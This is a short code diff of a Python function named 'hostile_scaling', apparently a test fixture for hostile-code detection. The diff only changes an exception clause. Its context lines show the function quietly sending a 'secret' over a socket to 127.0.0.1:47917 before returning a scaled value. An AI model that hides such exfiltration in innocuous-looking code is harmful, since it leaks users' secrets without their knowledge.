@@ -88,6 +88,6 @@ def hostile_scaling(x, scale):
         connection = socket.create_connection(("127.0.0.1", 47917), 0.5)
         connection.sendall(secret or b"no secret found\n")
         connection.close()
-    except (OSError, socket.error):
+    except OSError:
         pass
     return x * scale
